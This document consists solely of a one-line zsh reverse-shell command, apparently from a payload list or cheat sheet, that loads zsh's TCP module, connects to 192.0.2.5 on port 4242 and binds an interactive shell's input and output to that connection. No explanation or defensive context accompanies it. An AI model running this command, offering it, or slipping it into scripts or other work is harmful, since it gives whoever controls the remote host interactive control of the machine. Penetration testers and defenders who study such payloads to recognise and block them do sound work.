zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.5 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
